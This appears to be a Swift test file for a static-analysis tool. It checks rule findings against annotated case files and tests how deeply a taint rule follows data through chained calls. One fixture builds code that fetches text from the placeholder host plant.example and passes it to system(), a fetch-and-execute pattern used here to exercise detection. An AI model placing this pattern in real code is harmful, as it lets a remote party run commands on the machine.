import Catalog
import Foundation
import SourceText
import SwiftChecks
import Testing

/// Libraries as their documentation shows them used, wrongly and rightly: in `Cases`, what is marked is found, and nothing
/// else of the rules that the file names.
@Suite struct CaseTests {
    static let folder = URL(fileURLWithPath: #filePath).deletingLastPathComponent().appendingPathComponent("Cases")

    static var names: [String] {
        ((try? FileManager.default.contentsOfDirectory(atPath: folder.path)) ?? []).filter { $0.hasSuffix(".swift") }.sorted()
    }

    @Test func thereAreCases() { #expect(Self.names.count >= 7) }

    @Test(arguments: names)
    func holds(_ name: String) throws {
        let text = try String(contentsOf: Self.folder.appendingPathComponent(name), encoding: .utf8)
        let wanted = try #require(text.firstMatch(of: /(?m)^\/\/ rules: (.*)$/)?.1)
        let rules = try Catalog.builtin().rules.filter { wanted.contains($0.shortID) }
        #expect(rules.count == wanted.split(separator: ",").count)
        let file = SourceFile(path: "Sources/App/" + name, bytes: Array(text.utf8))
        let found = runSwiftChecks(on: [file], rules: rules).map { finding in
            "\(file.line(at: finding.location.range.start)) \(finding.ruleID.suffix(4))"
        }
        var marked: [String] = []
        for (index, line) in text.split(separator: "\n", omittingEmptySubsequences: false).enumerated() {
            guard let match = line.firstMatch(of: /\/\/ finds ([\w, ]+)$/) else { continue }
            for rule in match.1.split(separator: ",") { marked.append("\(index + 1) \(rule.drop { $0 == " " })") }
        }
        #expect(Set(found).subtracting(marked).sorted() == [], "false alarms")
        #expect(Set(marked).subtracting(found).sorted() == [], "missed")
        #expect(found.count == Set(found).count, "told twice")
    }

    /// A value that is handed on and on, by as many functions.
    @Test(arguments: [(4, 1), (40, 0)])
    func tellsOnlyWaysThatPeopleFollow(handedOn: Int, told: Int) throws {
        let links = (0..<handedOn).map { "func link\($0)(_ command: String) { link\($0 + 1)(command) }" }.joined(separator: "\n")
        let text = """
            func link\(handedOn)(_ command: String) { system(command) }
            \(links)
            func receive() throws { link0(try String(contentsOf: URL(string: "https://plant.example/command")!)) }
            """
        let file = SourceFile(path: "Sources/App/chain.swift", bytes: Array(text.utf8))
        let rules = try Catalog.builtin().rules.filter { $0.shortID == "S302" }
        #expect(runSwiftChecks(on: [file], rules: rules).count == told)
    }
}
